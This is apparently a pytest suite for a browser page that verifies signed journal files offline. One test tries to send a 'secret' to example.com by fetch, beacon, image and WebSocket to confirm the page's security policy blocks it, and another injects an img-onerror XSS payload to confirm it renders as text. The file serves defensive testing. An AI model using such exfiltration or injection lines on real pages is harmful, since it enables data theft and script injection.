"""The verifier in the browser: the same answers as the command, nothing leaves, and people can use it."""

from __future__ import annotations

import base64
import io
import json
import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import asdict
from pathlib import Path
from random import Random
from typing import Any

import pytest

from eve_proxy.signing.hmac_key import HmacSigner
from eve_proxy.signing.journal_walk import read_lines, walk
from eve_proxy.signing.seal import seal
from eve_proxy.signing.verification import keys_from
from tests.fakes.browser import PAGE, Verifier, chromium
from tests.fakes.journal import draft, link
from tests.fakes.ports import SECRET
from tests.signing.test_journal_walk import journal as make_journal
from tests.signing.test_vectors import MANIFEST, VECTORS, content, name_of

ROOT = Path(__file__).parents[2]
HMAC = VECTORS / "keys" / "hmac.txt"
JWKS = VECTORS / "keys" / "jwks.json"


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as opened:
        yield opened


@pytest.fixture(scope="module")
def verifier(browser: Any) -> Iterator[Verifier]:
    context = browser.new_context()
    yield Verifier(context)
    context.close()


@pytest.fixture
def fresh(browser: Any) -> Iterator[Verifier]:
    context = browser.new_context()
    yield Verifier(context)
    context.close()


def by_command(case: dict[str, Any]) -> dict[str, Any]:
    """What ``eve-proxy verify --json`` reports of a vector, as JSON gives it back."""
    with (VECTORS / case["file"]).open("rb") as stream:
        report = walk(
            read_lines(stream),
            keys_from([content(key) for key in case["keys"]]),
            require_external=case["require_external"],
        )
    found: dict[str, Any] = json.loads(json.dumps(asdict(report)))
    return found


@pytest.mark.parametrize("case", MANIFEST["journals"], ids=name_of)
def test_every_vector_is_answered_as_by_the_command(verifier: Verifier, case: dict[str, Any]) -> None:
    """An auditor who trusts no command line of ours is told the same: exit, fault, line, words, counts, head."""
    keys = [VECTORS / key["file"] for key in case["keys"]]
    report = verifier.verify(VECTORS / case["file"], keys, require_external=case["require_external"])
    assert report["exit"] == case["exit"]
    if case["exit"] != 2:
        assert report == by_command(case)
    assert verifier.complaints == []


def test_keys_may_be_typed_and_pasted(verifier: Verifier) -> None:
    """A secret in the box, a JWKS or PEM in the other: as good as files; a PEM in the secret's box is no secret."""
    good = VECTORS / "hmac" / "journal.jsonl"
    assert verifier.verify(good, secret=HMAC.read_text().removesuffix("\n"))["exit"] == 0
    assert verifier.verify(good, secret="wrong")["exit"] == 4
    assert verifier.verify(VECTORS / "p256" / "journal.jsonl", pasted=JWKS.read_text())["exit"] == 0
    pem = (VECTORS / "keys" / "ed25519.pem").read_text()
    assert verifier.verify(VECTORS / "ed25519" / "journal.jsonl", pasted=pem)["exit"] == 0
    assert verifier.verify(VECTORS / "ed25519" / "document-hmac.jsonl", secret=pem)["exit"] == 4


PRIVATE = {"kty": "OKP", "crv": "Ed25519", "x": "A" * 43, "d": "A" * 43}
UNUSABLE = {
    "nothing": "",
    "no public key": '{"keys": []}',
    "private among public": json.dumps({"keys": [PRIVATE]}),
    "symmetric": '{"kty": "oct", "k": "c2VjcmV0"}',
    "two names": json.dumps({"keys": json.loads(JWKS.read_text())["keys"] * 2}),
    "not on the curve": json.dumps({"kty": "EC", "crv": "P-256", "x": "A" * 43, "y": "A" * 43}),
    "other use of the name": json.dumps(json.loads(JWKS.read_text())["keys"][0] | {"alg": "ES256"}),
    "a certificate": "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n",
}


@pytest.mark.parametrize("name", UNUSABLE)
def test_what_is_no_key_is_said_to_be_none(verifier: Verifier, name: str) -> None:
    """A document that gives no key is refused by the page and by the command alike, and never quoted."""
    assert verifier.verify(VECTORS / "hmac" / "journal.jsonl", pasted=UNUSABLE[name]) == {"exit": 2}
    assert keys_from(UNUSABLE[name]) == ()
    assert "A" * 43 not in verifier.page.inner_text("#answer")


def test_nothing_leaves_the_page(browser: Any) -> None:
    """The page asks for nothing, and its policy stops whoever tries: fetch, images, forms, scripts, other workers."""
    context = browser.new_context()
    verifier = Verifier(context)
    assert verifier.verify(VECTORS / "hmac" / "sessions.jsonl", [HMAC])["exit"] == 0
    assert [url for url in verifier.requests if not url.startswith("blob:")] == []
    tries = """async () => {
      const stopped = [];
      addEventListener("securitypolicyviolation", (event) => stopped.push(event.effectiveDirective));
      await fetch("https://example.com/?secret").catch(() => {});
      new Image().src = "https://example.com/secret.png";
      const frame = document.createElement("iframe"); frame.src = "https://example.com/"; document.body.append(frame);
      try { new WebSocket("wss://example.com/"); } catch {}
      navigator.sendBeacon("https://example.com/", "secret");
      try { document.body.innerHTML += "<b>markup</b>"; } catch { stopped.push("markup"); }
      await new Promise((resolve) => setTimeout(resolve, 300));
      return stopped;
    }"""
    stopped = verifier.page.evaluate(tries)
    assert {"connect-src", "img-src", "frame-src", "markup"} <= set(stopped)
    assert stopped.count("connect-src") >= 3
    context.close()


def test_the_fault_is_shown_where_it_is(fresh: Verifier) -> None:
    """The page names line, bytes and the very characters, and lists only what was verified."""
    lines = (VECTORS / "hmac" / "respaced.jsonl").read_bytes().splitlines(keepends=True)
    fresh.verify(VECTORS / "hmac" / "respaced.jsonl", [HMAC])
    page = fresh.page
    assert page.inner_text("#answer-title") == "Tampered"
    offset = len(lines[0] + lines[1])
    where = f"Line 3, bytes {offset:,} to {offset + len(lines[2]):,} of the file"
    assert page.inner_text("#place-where") == where
    assert page.text_content("#place-text mark") == " "
    assert page.text_content("#place-text") == lines[2].decode().removesuffix("\n")
    assert page.locator("#rows tr").count() == 2
    fresh.verify(VECTORS / "hmac" / "edited.jsonl", [HMAC])
    stated = json.loads((VECTORS / "hmac" / "edited.jsonl").read_bytes().splitlines()[2])["content_hash"]
    assert f"the line states\n{stated}" in page.inner_text("#place-facts")


def test_markup_in_a_journal_is_text(fresh: Verifier) -> None:
    """A reason that is HTML is shown as it is: a journal cannot take over the page that examines it."""
    evil = "<img src=x onerror=document.title='taken'>"
    line = seal(draft(0, reason=evil), link(), HmacSigner(SECRET)).line + b"\n"
    fresh.verify(line, secret=SECRET.decode())
    assert fresh.page.inner_text("#rows .reason") == evil
    assert fresh.page.title() == "Verify a journal"


def test_table_chart_and_filters(fresh: Verifier) -> None:
    """Decisions are counted, drawn, and filtered by verdict, words and time; a line opens as its certificate."""
    fresh.verify(VECTORS / "hmac" / "sessions.jsonl", [HMAC])
    page = fresh.page
    rows = page.locator("#rows tr")
    assert rows.count() == 15
    assert page.inner_text("#lane-allow-count") == "3"
    assert page.locator("#chart path.bar.block:not(.faded)").get_attribute("d") != ""
    for lane in ("allow", "journal", "fail_open", "fail_closed"):
        page.uncheck(f"#lane-{lane}")
    assert rows.count() == 1
    assert "blocklist" in rows.first.inner_text()
    page.click("#clear")
    page.fill("#words", "connect api.example")
    assert rows.count() == 1
    page.click("#clear")
    page.fill("#words", "cert_9a1b3c5d7e9f0001")
    assert rows.count() == 1
    page.click("#clear")
    page.fill("#from", "2026-04-16T14:23:14")
    assert rows.count() == 3
    page.click("#clear")
    page.click("#rows button >> nth=1")
    page.wait_for_selector("#record[open]")
    assert json.loads(page.inner_text("#record-text"))["certificate_id"] == "cert_9a1b3c5d7e9f0001"
    page.click("#record-close")
    page.locator("#chart").scroll_into_view_if_needed()
    box = page.locator("#chart").bounding_box()
    page.mouse.move(box["x"] + box["width"] - 60, box["y"] + 40)
    page.mouse.down()
    page.mouse.move(box["x"] + box["width"] - 1, box["y"] + 50)
    page.mouse.up()
    assert 0 < rows.count() < 10
    assert page.input_value("#from") > "2026-04-16T14:23"


def test_everything_has_a_name_for_those_who_cannot_see(fresh: Verifier) -> None:
    """Each control and region is named, the answer is announced and takes the focus, the keyboard suffices."""
    fresh.verify(VECTORS / "hmac" / "journal.jsonl", [HMAC])
    page = fresh.page
    nameless = page.evaluate(
        """() => [...document.querySelectorAll("input, textarea, button, progress, select")]
          .filter((each) => !(each.labels?.length || each.ariaLabel || each.textContent.trim()))
          .map((each) => each.id)"""
    )
    assert nameless == []
    assert page.evaluate("document.activeElement.id") == "answer"
    assert page.get_attribute("#answer", "role") == "status"
    assert page.get_attribute("html", "lang") == "en"
    page.focus("#rows button")
    page.keyboard.press("Enter")
    page.wait_for_selector("#record[open]")
    page.keyboard.press("Escape")
    page.wait_for_selector("#record", state="hidden")


def test_a_journal_may_be_dropped_on_the_page(fresh: Verifier) -> None:
    """A file dropped anywhere becomes the journal, and does not replace the page."""
    fresh.page.evaluate(
        """() => { const given = new DataTransfer(); given.items.add(new File(["{}"], "dropped.jsonl"));
          const drop = { dataTransfer: given, bubbles: true, cancelable: true };
          document.body.dispatchEvent(new DragEvent("drop", drop)); }"""
    )
    assert fresh.page.inner_text("#journal-name") == "dropped.jsonl, 2 bytes"


def test_giving_up_says_what_is_missing(fresh: Verifier) -> None:
    """Without a journal, or without a key, the page says what to give."""
    fresh.page.click("#form button")
    assert "Choose a journal first" in fresh.page.inner_text("#answer")
    assert fresh.verify(VECTORS / "hmac" / "journal.jsonl") == {"exit": 2}
    assert "Give a key" in fresh.page.inner_text("#answer")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_stands_out_from_its_ground(browser: Any, scheme: str) -> None:
    """Every text has the contrast of WCAG 2 level AA, by day and by night."""
    context = browser.new_context(color_scheme=scheme)
    verifier = Verifier(context)
    measure = """() => {
      const channels = (color) => color.match(/[\\d.]+/g).map(Number);
      const light = (color) => {
        const [r, g, b] = channels(color).map((each) => each / 255)
          .map((each) => each <= 0.04045 ? each / 12.92 : ((each + 0.055) / 1.055) ** 2.4);
        return 0.2126 * r + 0.7152 * g + 0.0722 * b;
      };
      const ground = (each) => {
        for (; each; each = each.parentElement) {
          const color = getComputedStyle(each).backgroundColor;
          if ((channels(color)[3] ?? 1) === 1) return color;
        }
        return "rgb(255, 255, 255)";
      };
      const poor = [];
      for (const each of document.querySelectorAll("body *")) {
        const text = [...each.childNodes].some((node) => node.nodeType === 3 && node.textContent.trim());
        if (!text || each.checkVisibility?.() === false || each.closest("script, style, :disabled")) continue;
        const style = getComputedStyle(each);
        const [one, other] = [light(each.closest("svg") ? style.fill : style.color), light(ground(each))].sort();
        const ratio = (other + 0.05) / (one + 0.05);
        if (ratio < 4.5) poor.push(`${each.tagName} ${each.className} ${ratio.toFixed(1)}`);
      }
      return poor;
    }"""
    for name in ("sessions", "respaced", "truncated", "wrong-key"):
        verifier.verify(VECTORS / "hmac" / f"{name}.jsonl", [HMAC])
        assert verifier.page.evaluate(measure) == []
    context.close()


def test_page_stays_usable_while_it_reads(fresh: Verifier, tmp_path: Path) -> None:
    """A journal of many pieces is streamed: the page answers in between, and says how far it is."""
    long = tmp_path / "long.jsonl"
    long.write_bytes(b"".join(make_journal(["decision"] * 20_000)))
    page = fresh.page
    page.evaluate(
        """() => { window.longest = 0; window.seen = new Set(); let last = performance.now();
          const tick = () => { const now = performance.now(); window.longest = Math.max(window.longest, now - last);
            last = now; const bar = document.getElementById("progress"); if (!bar.hidden) window.seen.add(bar.value);
            window.ticking = setTimeout(tick, 5); }; tick(); }"""
    )
    report = fresh.verify(long, secret=SECRET.decode())
    page.evaluate("() => clearTimeout(window.ticking)")
    assert (report["exit"], report["records"]) == (3, 20_000)
    assert page.evaluate("window.seen.size") >= 2
    page.click("#last")
    assert page.inner_text("#rows tr:last-child button") == "20,000"


@pytest.mark.slow
def test_random_changes_are_answered_as_by_the_command(verifier: Verifier) -> None:
    """A few hundred random journals with a random change each: never whole, and the same report as the command's."""
    random = Random(20260416)
    for number in range(300):
        kinds = random.choices(["decision", "void", "suppressed", "session_open", "recovered"], k=random.randrange(6))
        lines = make_journal(["session_open", *kinds, "session_close"])
        changed = changed_once(random, lines)
        if changed == b"".join(lines):
            continue
        report = verifier.verify(changed, secret=SECRET.decode())
        expected = walk(read_lines(io.BytesIO(changed)), keys_from(SECRET))
        assert report["exit"] in (1, 3, 4), (number, base64.b64encode(changed))
        assert report == json.loads(json.dumps(asdict(expected))), (number, base64.b64encode(changed))


def changed_once(random: Random, lines: list[bytes]) -> bytes:
    """The journal with one byte, line or end changed."""
    whole = b"".join(lines)
    at = random.randrange(len(whole))
    one, other = random.randrange(len(lines)), random.randrange(len(lines))
    match random.choice(["byte", "remove", "add", "repeat", "drop", "swap", "insert", "cut"]):
        case "byte":
            return whole[:at] + bytes([random.randrange(256)]) + whole[at + 1 :]
        case "remove":
            return whole[:at] + whole[at + 1 :]
        case "add":
            return whole[:at] + random.choice([b" ", b"\n", b'"', b"0", b"\\", b"\xff", b","]) + whole[at:]
        case "repeat":  # a member twice, or half of one
            end = min(len(whole), at + random.randrange(1, 80))
            return whole[:end] + whole[at:end] + whole[end:]
        case "drop":
            return b"".join(lines[:one] + lines[one + 1 :])
        case "swap":
            lines = list(lines)
            lines[one], lines[other] = lines[other], lines[one]
            return b"".join(lines)
        case "insert":
            return b"".join([*lines[:one], random.choice([lines[other], *make_journal(log_id="log_2")]), *lines[one:]])
        case _:
            return whole[:at]


def test_page_is_made_of_its_parts(tmp_path: Path) -> None:
    """What is published is what was reviewed: the page equals what the script makes of the parts."""
    made = tmp_path / "verify.html"
    subprocess.run([sys.executable, str(ROOT / "scripts" / "make-verifier"), str(made)], check=True)
    assert made.read_bytes() == PAGE.read_bytes(), "run scripts/make-verifier"


def test_page_names_no_address() -> None:
    """No part of the page points anywhere else, whatever the policy would say to it."""
    text = PAGE.read_text().replace('"http://www.w3.org/2000/svg"', "")  # a name, not an address
    assert re.findall(r"(?i)\b(?:https?|wss?|ftp):|\b(?:src|href|action) *=|@import|\burl\(|\bimport\b", text) == []
    assert "default-src 'none'" in text
    assert "unsafe" not in text
